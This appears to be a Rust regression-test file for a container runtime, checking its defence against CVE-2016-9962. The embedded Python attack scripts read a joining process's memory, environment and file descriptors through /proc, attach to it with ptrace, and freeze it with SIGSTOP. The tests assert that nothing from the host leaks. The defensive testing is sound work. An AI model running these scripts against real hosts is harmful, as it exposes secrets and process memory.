//! CVE-2016-9962: a process that joins a container, attacked before it has let go of the host.

use super::{python, python3, ready};
use ampoule::privileges::capabilities::{Capability, CapabilitySet};
use ampoule::{Container, IdMap};
use needs::needs;
use std::time::{Duration, Instant};

/// What every reader of the host's memory would find.
const SECRET: &str = "a-secret-of-the-host";

/// Races with every process that comes: reads its memory, environment, files and directories, and traces it.
const RACE: &str = r#"
own, found = os.getpid(), set()
secret = os.environ["LOOK_FOR"][::-1].encode()
def memory(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            place, modes = line.split()[:2]
            first, last = (int(n, 16) for n in place.split("-"))
            if not modes.startswith("rw") or "[v" in line or last - first > 64 << 20: continue
            memory.seek(first)
            if secret in memory.read(last - first): return True
    return False
def look(pid):
    with open(f"/proc/{pid}/environ", "rb") as file:
        if secret in file.read(): found.add("environ")
    for link in ["exe", "root", "cwd"]:
        name = os.readlink(f"/proc/{pid}/{link}")
        if link == "exe": found.add("exe " + name)
        elif name != "/": found.add(link + " " + name)
    for fd in os.listdir(f"/proc/{pid}/fd"):
        name = os.readlink(f"/proc/{pid}/fd/{fd}")
        if not name.startswith(("pipe:", "/dev/null", "socket:", "/etc/ld.so", "/usr/")): found.add("fd " + name)
    if memory(pid): found.add("memory")
print("ready", flush=True)
end = time.time() + 6
while time.time() < end:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == own: continue
        try: look(int(pid))
        except (OSError, ValueError, OverflowError): pass
        if call_ok(16, int(pid)):
            try: look(int(pid))
            except (OSError, ValueError, OverflowError): pass
            os.waitpid(int(pid), 0x40000000)
            libc.syscall(101, 17, int(pid), 0, 0)
print("\n".join(sorted(found)))
print("end")
"#;

needs!(user_namespaces, python3 => a_joining_process_shows_nothing_of_the_host);
fn a_joining_process_shows_nothing_of_the_host() {
    let secret = format!("{SECRET}-{}", std::process::id());
    let reversed: String = secret.chars().rev().collect();
    let attack = format!(
        "def call_ok(request, pid): return libc.syscall(101, request, pid, 0, 0) == 0\n{RACE}"
    );
    let mut attacker = python(&attack);
    let child = ready(attacker.env("LOOK_FOR", &reversed));
    let until = Instant::now() + Duration::from_secs(5);
    let mut joined = 0;
    while Instant::now() < until {
        // A traced program is held up; its end is not what this is about.
        let mut exec = child.exec("true");
        let _ = exec.timeout(Duration::from_secs(10)).output();
        joined += 1;
    }
    let output = child.wait_with_output().unwrap();
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(
        said.ends_with("end\n"),
        "{said} {}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(joined > 0);
    for line in said.lines().filter(|line| *line != "end") {
        let harmless = line.starts_with("exe /usr/bin/") || line.contains("memfd:ampoule-init");
        assert!(harmless, "reached: {line}");
    }
    // Kept until here, so that it was in the host's memory all the while.
    assert!(secret.starts_with(SECRET));
}

/// Stops the first process that comes, and keeps all that it has open.
const STOP: &str = r#"
own, kept = os.getpid(), []
print("ready", flush=True)
while not kept:
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == own: continue
        try: os.kill(int(pid), 19)
        except OSError: continue
        kept.append(pid)
        for fd in range(3, 10): kept.append(attempt(os.open, f"/proc/{pid}/fd/{fd}", os.O_WRONLY))
time.sleep(60)
"#;

needs!(user_namespaces, python3 => a_joining_process_that_is_stopped_does_not_stop_the_host);
fn a_joining_process_that_is_stopped_does_not_stop_the_host() {
    let child = ready(&mut python(STOP));
    let started = Instant::now();
    // Where it was stopped is chance: before its program has begun, or after.
    let mut exec = child.exec("sleep");
    exec.arg("60").timeout(Duration::from_secs(1));
    if let Ok(mut stopped) = exec.spawn() {
        let report = stopped.wait().unwrap();
        assert!(!report.success(), "{report}");
    }
    assert!(started.elapsed() < Duration::from_secs(30));
    assert!(Container::new("true").status().unwrap().success());
}

needs!(root => nobody_joins_who_may_trace_everything);
fn nobody_joins_who_may_trace_everything() {
    let mut container = Container::new("sleep");
    let tracing = CapabilitySet::DOCKER | [Capability::SysPtrace].into();
    let child = container.arg("60").capabilities(tracing).spawn().unwrap();
    // Without this, the attack above reads the host's binary and memory.
    let error = child.exec("true").spawn().unwrap_err().to_string();
    assert!(
        error.contains("CAP_SYS_PTRACE") && error.contains("id map"),
        "{error}"
    );
    let map = IdMap::ranges(100_000, 65_536).unwrap();
    let child = container.id_map(map).spawn().unwrap();
    assert!(child.exec("true").status().unwrap().success());
}
